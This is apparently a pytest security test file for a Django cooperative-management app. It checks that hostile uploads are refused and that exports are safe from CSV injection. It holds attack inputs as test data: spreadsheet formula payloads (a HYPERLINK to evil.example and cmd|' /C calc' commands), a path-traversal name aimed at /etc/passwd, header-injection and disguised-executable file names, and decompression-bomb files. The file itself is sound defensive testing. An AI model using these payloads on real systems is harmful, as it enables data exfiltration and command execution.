"""Hostile files: malformed member imports, pictures that are not pictures, documents that are
not PDFs; and the exports, which must not hand a spreadsheet a formula (CSV injection) or fail
on the names people type.

Expect a clear message, no 500, nothing imported or stored.
"""

from __future__ import annotations

import csv
import io
import re
import struct
import zipfile
import zlib
from email.message import Message

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from koperasi.models import Cooperative
from members import imports
from members.models import ImportJob, Member
from partners.models import Offer, Partner
from partners.purchases import purchase_record
from services.loans.models import LoanProduct
from services.participation.models import MeetingDocument
from tests.conftest import client_for
from tests.security import hostile, hostile_world
from tests.security.hostile_world import World, fresh_code

pytestmark = pytest.mark.django_db
world = hostile_world.world  # the module-scoped fixture

ERROR_MARKERS = ('role="alert"', 'class="errorlist', "msg error", 'class="error"')


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def _client(user) -> Client:
    client = client_for(user)
    client.raise_request_exception = False
    return client


def _text(response) -> str:
    if response.streaming:
        return b"".join(response.streaming_content).decode("utf-8", "replace")
    return response.content.decode("utf-8", "replace")


def _shows_error(response) -> bool:
    return any(marker in _text(response) for marker in ERROR_MARKERS)


# --- Files to upload ---------------------------------------------------------------------------

IMPORT_HEADER = "nama,nik,tanggal_lahir,jenis_kelamin,telepon,alamat\n"


def _xlsx(rows: list[list]) -> bytes:
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _zip(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _xlsx_with_empty_rows(count: int) -> bytes:
    """A real workbook whose sheet has a header and then `count` empty rows: a few KB on disk,
    100,000 rows once unpacked."""
    workbook = _xlsx([["nama", "nik"]])
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    sheet = files["xl/worksheets/sheet1.xml"].decode()
    empty = "".join(f'<row r="{n}"/>' for n in range(2, count + 2))
    files["xl/worksheets/sheet1.xml"] = sheet.replace("</row>", "</row>" + empty, 1).encode()
    return _zip(files)


def _png_header(width: int, height: int) -> bytes:
    """The start of a PNG that claims `width` x `height` pixels (and no pixel data)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IEND", b"")


def _jpeg() -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (64, 64), "green").save(buffer, format="JPEG")
    return buffer.getvalue()


GARBAGE = bytes((n * 7919) % 256 for n in range(4096))  # has NUL bytes
GARBAGE_TEXT = bytes(range(0x80, 0x100)) * 16  # no NUL; not UTF-8; cp1252 has holes
FORMULA_NAMES = {
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
}

# name, file name, content
MALFORMED_IMPORTS = [
    ("binary garbage", "anggota.csv", GARBAGE),
    ("text garbage", "anggota.csv", GARBAGE_TEXT),
    ("wrong headers", "anggota.csv", b"foo,bar,baz\n1,2,3\n4,5,6\n"),
    ("utf-16", "anggota.csv", (IMPORT_HEADER + "Sri,1,2,3,4,5\n").encode("utf-16")),
    ("only a header", "anggota.csv", IMPORT_HEADER.encode()),
    ("unclosed quote", "anggota.csv", (IMPORT_HEADER + '"Sri,1,2\n' * 3).encode()),
    ("nul in a cell", "anggota.csv", (IMPORT_HEADER + "Sri\x00,1,2,3,4,5\n").encode()),
    ("too many rows", "anggota.csv", (IMPORT_HEADER + "a,b\n" * 100_011).encode()),
    ("zip, not xlsx", "anggota.xlsx", _zip({"hello.txt": b"halo"})),
    ("not a zip, named xlsx", "anggota.xlsx", b"nama,nik\nSri,1\n"),
    ("truncated xlsx", "anggota.xlsx", _xlsx([["nama", "nik"], ["Sri", "1"]])[:900]),
    ("xlsx named csv", "anggota.csv", _xlsx([["foo"], ["bar"]])),
    ("old xls", "anggota.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512),
    ("100k empty rows", "anggota.xlsx", _xlsx_with_empty_rows(100_000)),
    (
        "formula cells",
        "anggota.csv",
        (IMPORT_HEADER + "".join(f"{name},1,2,3,4,5\n" for name in FORMULA_NAMES.values()))
        .replace("\t", " ")
        .encode(),
    ),
]


@pytest.mark.parametrize(
    ("filename", "content"), [pytest.param(f, c, id=n) for n, f, c in MALFORMED_IMPORTS]
)
def test_a_malformed_member_list_is_refused_with_a_message_and_imports_nothing(
    world, filename, content
):
    board = _client(world.home.chair)
    slug = world.slug
    members = Member.objects.count()

    response = board.post(
        reverse("koperasi:import-start", args=[slug]),
        {"file": SimpleUploadedFile(filename, content)},
    )

    assert response.status_code == 302, _text(response)[:2000]
    job = ImportJob.objects.get(pk=response["Location"].rstrip("/").rsplit("/", 1)[-1])
    job = imports.import_job_validate(job_id=job.pk)  # what the worker does
    assert job.status == ImportJob.Status.INVALID, (job.status, job.problems)
    message = job.problems[0]["message"]
    assert message
    page = board.get(reverse("koperasi:import-detail", args=[slug, job.pk]))
    assert page.status_code == 200
    assert hostile.escaped(message) in _text(page)
    assert Member.objects.count() == members


@pytest.mark.parametrize(
    ("filename", "content"),
    [
        pytest.param("anggota.csv", b"", id="empty"),
        pytest.param("anggota.exe", IMPORT_HEADER.encode(), id="not csv or xlsx"),
        pytest.param("anggota", IMPORT_HEADER.encode(), id="no extension"),
        pytest.param(f"{hostile.IMG_ONERROR}.exe", b"x", id="markup in the name"),
    ],
)
def test_an_upload_the_form_refuses_creates_no_job(world, filename, content):
    board = _client(world.home.chair)

    response = board.post(
        reverse("koperasi:import-start", args=[world.slug]),
        {"file": SimpleUploadedFile(filename, content)},
    )

    assert response.status_code == 200
    assert _shows_error(response)
    assert hostile.IMG_ONERROR not in _text(response)
    assert not ImportJob.objects.exists()


def test_a_real_file_over_the_size_limit_is_refused(world):
    """The limit holds for the bytes sent, not only for what the upload object says."""
    board = _client(world.home.chair)
    content = IMPORT_HEADER.encode() + b"a" * imports.MAX_UPLOAD_BYTES

    response = board.post(
        reverse("koperasi:import-start", args=[world.slug]),
        {"file": SimpleUploadedFile("anggota.csv", content)},
    )

    assert response.status_code in (200, 400, 413)
    assert response.status_code != 200 or _shows_error(response)
    assert not ImportJob.objects.exists()


# --- Offer pictures ------------------------------------------------------------------------------

PICTURES = [
    ("text named jpg", "foto.jpg", b"this is not a picture"),
    ("truncated jpeg", "foto.jpg", _jpeg()[:200]),
    ("huge png header", "foto.png", _png_header(100_000, 100_000)),
    ("png header over 40 megapixels", "foto.png", _png_header(8_000, 6_000)),
    ("png named jpg", "foto.jpg", _png_header(10, 10)),
    ("gif", "foto.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"),
    ("svg with script", "foto.svg", f"<svg>{hostile.SCRIPT}</svg>".encode()),
    ("empty", "foto.jpg", b""),
    ("html", "foto.png", f"<html>{hostile.SCRIPT}</html>".encode()),
    ("script in the name", f"{hostile.IMG_ONERROR}.txt", b"x"),
]


def _offer_payload(title: str) -> dict:
    return {
        "title": title,
        "description": "",
        "unit": "kg",
        "price": "10.000",
        "discount_percent": "0",
        "valid_from": timezone.localdate().isoformat(),
        "valid_to": "",
    }


@pytest.mark.parametrize(
    ("filename", "content"), [pytest.param(f, c, id=n) for n, f, c in PICTURES]
)
def test_a_picture_that_is_not_a_usable_picture_is_refused(world, settings, filename, content):
    partner = _client(world.partner_owner)
    offers = Offer.objects.count()

    create = partner.post(
        reverse("partners:offer-create"),
        {**_offer_payload("Benih"), "picture": SimpleUploadedFile(filename, content)},
    )
    update = partner.post(
        reverse("partners:offer-update", kwargs={"offer_id": world.offer.pk}),
        {**_offer_payload("Pupuk"), "picture": SimpleUploadedFile(filename, content)},
    )

    for response in (create, update):
        assert response.status_code in (200, 422), response.status_code
        assert _shows_error(response)
        assert hostile.IMG_ONERROR not in _text(response)
    assert Offer.objects.count() == offers
    world.offer.refresh_from_db()
    assert (world.offer.title, world.offer.picture.name) == ("Pupuk Urea 50 kg", "")
    media = settings.MEDIA_ROOT
    assert not media.exists() or not any(p.is_file() for p in media.rglob("*"))


# --- Meeting documents ---------------------------------------------------------------------------

DOCUMENTS = [
    ("not a pdf", "notulen.pdf", b"<html>not a pdf</html>"),
    ("empty", "notulen.pdf", b""),
    ("pdf named docx", "notulen.docx", b"%PDF-1.4\n"),
    ("exe named pdf", "notulen.pdf", b"MZ\x90\x00" + b"\x00" * 100),
]


@pytest.mark.parametrize(
    ("filename", "content"), [pytest.param(f, c, id=n) for n, f, c in DOCUMENTS]
)
def test_a_meeting_document_that_is_not_a_pdf_is_refused(world, filename, content):
    board = _client(world.home.chair)

    response = board.post(
        reverse("koperasi:meeting-document-upload", args=[world.slug, world.home.meeting.pk]),
        {"file": SimpleUploadedFile(filename, content)},
    )

    assert response.status_code in (200, 422)
    assert _shows_error(response)
    assert not MeetingDocument.objects.exists()


def test_a_meeting_document_over_10_mb_is_refused(world):
    content = b"%PDF-1.4\n" + b"0" * (10 * 1024 * 1024)
    board = _client(world.home.chair)

    response = board.post(
        reverse("koperasi:meeting-document-upload", args=[world.slug, world.home.meeting.pk]),
        {"file": SimpleUploadedFile("notulen.pdf", content)},
    )

    assert response.status_code in (200, 422)
    assert _shows_error(response)
    assert not MeetingDocument.objects.exists()


def _multipart(disposition: str, content: bytes) -> tuple[bytes, str]:
    """A multipart body with one file part whose Content-Disposition parameters are written
    by hand (a browser or a script may send any), and its content type."""
    boundary = "HostileBoundary"
    body = (
        (
            f'--{boundary}\r\nContent-Disposition: form-data; name="file"; {disposition}\r\n'
            "Content-Type: application/pdf\r\n\r\n"
        ).encode()
        + content
        + f"\r\n--{boundary}--\r\n".encode()
    )
    return body, f"multipart/form-data; boundary={boundary}"


PDF = b"%PDF-1.4\n%%EOF\n"


@pytest.mark.parametrize(
    "disposition",
    [
        pytest.param(f'filename="{hostile.IMG_ONERROR}.pdf"', id="markup"),
        pytest.param('filename="\\"; filename=evil.exe; x=\\".pdf"', id="quotes"),
        pytest.param('filename="../../../etc/passwd.pdf"', id="path"),
        pytest.param("filename*=UTF-8''Notulen%0D%0AX-Injected%3A%201.pdf", id="line break"),
        pytest.param("filename*=UTF-8''Notulen%00.pdf", id="nul"),
        pytest.param("filename*=UTF-8''Notulen%E2%80%AEfdp.exe.pdf", id="rtl override"),
        pytest.param(f'filename="{"a" * 400}.pdf"', id="overlong"),
    ],
)
def test_a_pdf_with_a_hostile_name_is_stored_safely_or_refused(world, disposition):
    board = _client(world.home.chair)
    member = _client(world.home.member.user)
    meeting = world.home.meeting
    body, content_type = _multipart(disposition, PDF)

    response = board.generic(
        "POST",
        reverse("koperasi:meeting-document-upload", args=[world.slug, meeting.pk]),
        body,
        content_type=content_type,
    )

    assert response.status_code in (302, 422), response.status_code
    if response.status_code == 422:
        assert _shows_error(response)
        assert not MeetingDocument.objects.exists()
        return
    document = MeetingDocument.objects.get()
    assert not {"/", "\n", "\r", "\x00"} & set(document.title)
    pages = [
        board.get(reverse("koperasi:meeting-admin", args=[world.slug, meeting.pk])),
        member.get(reverse("koperasi:member-meeting", args=[world.slug, meeting.pk])),
    ]
    for page in pages:
        assert page.status_code == 200
        assert hostile.IMG_ONERROR not in _text(page)
    download = member.get(
        reverse("koperasi:meeting-document", args=[world.slug, meeting.pk, document.pk])
    )
    assert download.status_code == 200
    assert download["Content-Type"] == "application/pdf"
    assert "X-Injected" not in download
    # One file name, as a browser reads the header: the document's title, ending in .pdf.
    header = Message()
    header["Content-Disposition"] = download["Content-Disposition"]
    assert header.get_filename() == f"{document.title}.pdf"
    assert b"".join(download.streaming_content) == PDF


# --- Exports: no formula, no crash on what people type -----------------------------------------

NUMBER = re.compile(r"-?[0-9][0-9.,]*%?")


def _formula_cells_in_csv(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    delimiter = ";" if text.count(";") > text.count(",") else ","
    return [
        cell
        for row in csv.reader(io.StringIO(text), delimiter=delimiter)
        for cell in row
        if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not NUMBER.fullmatch(cell)
    ]


def _formula_cells_in_xlsx(content: bytes) -> list[str]:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [
        str(cell.value)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def _name_everything(w: World, names: list[str]) -> None:
    """Give the members, the cooperative, the loan product and the partner the hostile names,
    as a person could have typed them into the forms (which accept them, escaped on pages)."""
    people = [w.home.member, w.home.borrower, w.home.payer, w.home.leaver]
    for i, person in enumerate(people):
        Member.objects.filter(pk=person.pk).update(full_name=names[i % len(names)])
    Cooperative.objects.filter(pk=w.home.cooperative.pk).update(name=names[4 % len(names)])
    LoanProduct.objects.filter(pk=w.home.product.pk).update(name=names[5 % len(names)])
    Partner.objects.filter(pk=w.partner.pk).update(name=names[6 % len(names)])
    purchase_record(
        partner=w.partner,
        acting_user=w.partner_owner,
        cooperative=w.home.cooperative,
        member_number=w.home.member.number,
        code=fresh_code(w.home.member),
        amount=100_000,
        description=names[-1],
    )


def _shu_this_year(w: World) -> int:
    """A draft SHU year that the members take part in (they joined this year)."""
    from services.participation.shu import shu_year_save

    data = {
        "year": timezone.localdate().year,
        "surplus": 10_000_000,
        **dict.fromkeys(("reserve_pct", "jasa_modal_pct", "jasa_usaha_pct", "board_pct"), 20),
        **dict.fromkeys(("staff_pct", "education_pct", "social_pct"), 0),
        "social_pct": 20,
        "include_sukarela": True,
        "credit_to_sukarela": False,
        "vote": None,
    }
    return shu_year_save(cooperative=w.home.cooperative, acting_user=w.home.chair, data=data).pk


def _exports(w: World) -> list[tuple[str, Client, str]]:
    slug, today = w.slug, timezone.localdate()
    board = _client(w.home.chair)
    member = _client(w.home.member.user)
    partner = _client(w.partner_owner)
    anonymous = Client(raise_request_exception=False)
    return [
        ("csv", member, reverse("koperasi:member-statement-csv", args=[slug])),
        ("xlsx", member, reverse("koperasi:member-statement-xlsx", args=[slug])),
        ("pdf", member, reverse("koperasi:member-statement-pdf", args=[slug])),
        ("csv", board, reverse("koperasi:loan-portfolio-csv", args=[slug])),
        ("xlsx", board, reverse("koperasi:loan-portfolio-xlsx", args=[slug])),
        ("csv", board, reverse("koperasi:shu-csv", args=[slug, _shu_this_year(w)])),
        ("csv", board, reverse("koperasi:audit-csv", args=[slug])),
        ("csv", board, reverse("koperasi:partner-sales-csv", args=[slug])),
        ("csv", board, reverse("koperasi:report-download", args=[slug, "semua", "csv"])),
        ("xlsx", board, reverse("koperasi:report-download", args=[slug, "semua", "xlsx"])),
        ("pdf", board, reverse("koperasi:report-download", args=[slug, "semua", "pdf"])),
        ("csv", partner, reverse("partners:settlement-csv", args=[today.year, today.month])),
        ("pdf", partner, reverse("partners:settlement-pdf", args=[today.year, today.month])),
        (
            "csv",
            anonymous,
            reverse("koperasi:loan-simulator-csv", args=[slug])
            + f"?product={w.home.product.pk}&amount=1.000.000&term=12",
        ),
    ]


def _content(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def test_exports_hand_no_formula_to_a_spreadsheet(world):
    names = list(FORMULA_NAMES.values())
    with transaction.atomic():
        _name_everything(world, [*names, *names[:2]])
        problems = []
        for fmt, client, url in _exports(world):
            response = client.get(url)
            if response.status_code != 200:
                problems.append(f"{url}: {response.status_code}")
                continue
            content = _content(response)
            if fmt == "csv":
                found = _formula_cells_in_csv(content)
                shown = any(
                    name.split("(")[0][1:] in content.decode("utf-8-sig")
                    for name in FORMULA_NAMES.values()
                )
                if not shown:
                    problems.append(f"{url}: none of the names is in the file")
            elif fmt == "xlsx":
                found = _formula_cells_in_xlsx(content)
            else:
                found = []
            problems += [f"{url}: formula cell {cell!r}" for cell in found]
        transaction.set_rollback(True)

    assert problems == [], "\n".join(problems)


@pytest.mark.parametrize("turn", [0, 2, 6])
def test_exports_survive_markup_unicode_and_control_characters_in_names(world, turn):
    """Each trick lands, over the three turns, on the member whose statement is exported, the
    cooperative, the partner and a borrower."""
    names = [hostile.SCRIPT, *hostile.UNICODE_TRICKS.values()]
    names = names[turn:] + names[:turn]
    _name_everything(world, names)

    problems = [
        f"{url}: {response.status_code}"
        for _fmt, client, url in _exports(world)
        if (response := client.get(url)).status_code != 200
    ]

    assert problems == [], "\n".join(problems)
